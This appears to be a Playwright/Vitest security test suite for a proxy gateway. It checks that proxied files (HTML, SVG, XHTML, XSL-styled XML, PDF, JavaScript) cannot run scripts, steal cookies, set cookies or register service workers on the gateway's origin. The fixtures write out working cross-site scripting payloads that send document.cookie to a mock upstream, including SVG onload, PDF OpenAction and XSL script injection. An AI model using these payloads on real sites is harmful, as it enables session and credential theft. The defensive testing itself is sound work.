import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { closePages, launchBrowser } from '../support/browser.ts';
import { eventually } from '../support/eventually.ts';
import { type ProxyGateway, startProxyGateway } from '../support/proxy-gateway.ts';

/** Below the provider's prefix, so that the gateway asks for it and the provider can serve it by itself. */
const FILE = '/drive/v3/files/hostile';
const STYLESHEET = '/drive/v3/files/stylesheet';

let proxy: ProxyGateway;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let reports: { readonly tab: Page; readonly url: string }[];

beforeAll(async () => {
  [proxy, browser] = await Promise.all([startProxyGateway(), launchBrowser()]);
});
afterAll(async () => {
  if (browser !== undefined) await closePages(browser);
  await proxy?.[Symbol.asyncDispose]();
});
beforeEach(async () => {
  context = await browser.newContext();
  page = await context.newPage();
  reports = [];
  // Caught in the browser: what a policy forbids never gets here, and nothing else decides whether it arrives.
  await context.route('**/ran*', async (route) => {
    reports.push({ tab: route.request().frame().page(), url: route.request().url() });
    await route.fulfill({ status: 204 });
  });
});
afterEach(() => context.close());

/** What a hostile script does first: it reports to its author that it runs, and which cookies it can read. */
function script(): string {
  return `try { new Image().src = '${proxy.upstream.origin}/ran?' + encodeURIComponent(document.cookie); } catch {}
    try { navigator.serviceWorker.register('${FILE}'); } catch {}`;
}

interface Content {
  readonly type: string;
  readonly body: () => string;
}

const HTML = () => `<!doctype html><title>hostile</title><script>${script()}</script>`;

/** Content that runs its script in this browser when its maker serves it. */
const RUNNING: Readonly<Record<string, Content>> = {
  HTML: { type: 'text/html', body: HTML },
  'an event handler in HTML': {
    type: 'text/html; charset=utf-8',
    body: () => `<!doctype html><svg onload="${script().replaceAll('"', '&quot;')}"></svg>`,
  },
  SVG: {
    type: 'image/svg+xml',
    body: () => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script()}]]></script></svg>`,
  },
  XHTML: {
    type: 'application/xhtml+xml',
    body: () =>
      `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script><![CDATA[${script()}]]></script></head></html>`,
  },
  'a refresh that leads away': {
    type: 'text/html',
    body: () => `<!doctype html><meta http-equiv="refresh" content="0;url=${proxy.upstream.origin}/ran">`,
  },
  'a picture that reports back': {
    type: 'text/html',
    body: () => `<!doctype html><img src="${proxy.upstream.origin}/ran" alt="">`,
  },
};

/** Content that this browser shows or stores without running it; it must stay that way. */
const QUIET: Readonly<Record<string, Content>> = {
  'XML with a stylesheet that makes HTML of it': {
    type: 'application/xml',
    body: () => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${STYLESHEET}"?><list/>`,
  },
  JavaScript: { type: 'text/javascript', body: script },
  'HTML labelled text/plain': { type: 'text/plain', body: HTML },
  'HTML labelled application/json': { type: 'application/json', body: HTML },
  PDF: {
    type: 'application/pdf',
    body: () =>
      `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('${proxy.upstream.origin}/ran'\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
  },
};

const XSL = () =>
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${script().replaceAll('&', '&amp;')}</script></html></xsl:template></xsl:stylesheet>`;

/** The provider serves the content; everything else it is asked for is an empty page. */
function serve({ type, body }: Content): void {
  proxy.upstream.answer(({ target }, response) => {
    if (target.startsWith(FILE))
      response.writeHead(200, { 'content-type': type, 'set-cookie': 'planted=1' }).end(body());
    else if (target.startsWith(STYLESHEET)) response.writeHead(200, { 'content-type': 'text/xsl' }).end(XSL());
    else response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>page</title>');
  });
}

/** Opens the proxied content as its tab's document. Browsers send no secret key by themselves: here they are made to. */
async function openProxied(): Promise<void> {
  const { gatewayUrl } = proxy.test.gateway;
  await context.addCookies([{ name: 'sign-in', value: 'secret', url: gatewayUrl }]);
  await context.setExtraHTTPHeaders(Object.fromEntries(proxy.identity()));
  // What the browser stores instead of showing ends the navigation with an error.
  await page.goto(`${gatewayUrl}/proxy${FILE}`).catch(() => undefined);
  await eventually(() => expect(proxy.upstream.requests.map(({ target }) => target)).toContain(FILE));
  await context.setExtraHTTPHeaders({});
}

/** Reports of the tab that shows the proxied content, once a second tab that its maker serves has reported. */
async function reportsOfProxied(): Promise<string[]> {
  const other = await context.newPage();
  await other.goto(proxy.upstream.origin + FILE);
  await eventually(() => expect(reports.map(({ tab }) => tab)).toContain(other));
  return reports.filter(({ tab }) => tab === page).map(({ url }) => url);
}

describe('PR-4: proxied content in a browser', () => {
  const running = Object.entries(RUNNING);
  test.each(running.slice(0, 1))('runs nothing of %s, which runs where its maker serves it', staysQuiet);
  test.each(running.slice(1))(
    'runs nothing of %s, which runs where its maker serves it',
    { tags: ['long'] },
    staysQuiet,
  );

  async function staysQuiet(_: string, content: Content): Promise<void> {
    serve(content);
    await openProxied();
    expect(await reportsOfProxied()).toEqual([]);
  }

  test.each(Object.entries(QUIET))('runs nothing of %s', { tags: ['long'] }, async (_, content) => {
    serve(content);
    await openProxied();
    expect(proxy.upstream.requests.map(({ target }) => target)).not.toContain(STYLESHEET);
    serve({ type: 'text/html', body: HTML });
    expect(await reportsOfProxied()).toEqual([]);
  });

  test('runs and reads cookies through the gateway once its sandbox is taken away', async () => {
    serve({ type: 'text/html', body: HTML });
    await context.route('**/proxy/**', async (route) => {
      const response = await route.fetch();
      const { 'content-security-policy': _sandbox, ...headers } = response.headers();
      await route.fulfill({ response, headers });
    });
    await openProxied();
    expect((await reportsOfProxied()).join()).toContain('secret');
  });

  test('sets no cookie', async () => {
    serve({ type: 'text/html', body: HTML });
    await openProxied();
    expect((await context.cookies()).map(({ name }) => name)).toEqual(['sign-in']);
  });

  test('proxied content in a browser cannot be a script of a page elsewhere', async () => {
    serve({ type: 'text/javascript', body: script });
    await context.setExtraHTTPHeaders(Object.fromEntries(proxy.identity()));
    const loaded = await loadedAsScript(`${proxy.test.gateway.gatewayUrl}/proxy${FILE}`);
    expect(loaded).toBe(false);
    expect(proxy.upstream.requests.map(({ target }) => target)).toContain(FILE);
    expect(await loadedAsScript(proxy.upstream.origin + FILE)).toBe(true);
  });

  test('becomes no service worker of the gateway', async () => {
    serve({ type: 'text/javascript', body: () => '' });
    const { gatewayUrl } = proxy.test.gateway;
    await context.setExtraHTTPHeaders(Object.fromEntries(proxy.identity()));
    expect(await registersWorker(`${gatewayUrl}/connect`, `${gatewayUrl}/proxy${FILE}`)).toBe(false);
    expect(context.serviceWorkers()).toEqual([]);
    expect(await registersWorker(`${proxy.upstream.origin}/page`, proxy.upstream.origin + FILE)).toBe(true);
  });
});

/** Whether a page of the provider's origin may load an address as a classic script. */
async function loadedAsScript(url: string): Promise<boolean> {
  await page.goto(`${proxy.upstream.origin}/page`);
  return page.evaluate(
    (src) =>
      new Promise<boolean>((resolve) => {
        const element = document.createElement('script');
        element.src = src;
        element.addEventListener('load', () => resolve(true));
        element.addEventListener('error', () => resolve(false));
        document.documentElement.append(element);
      }),
    url,
  );
}

/** Whether a page may make a service worker of an address. */
async function registersWorker(pageUrl: string, url: string): Promise<boolean> {
  await page.goto(pageUrl);
  return page.evaluate((script) => navigator.serviceWorker.register(script).then(Boolean, () => false), url);
}
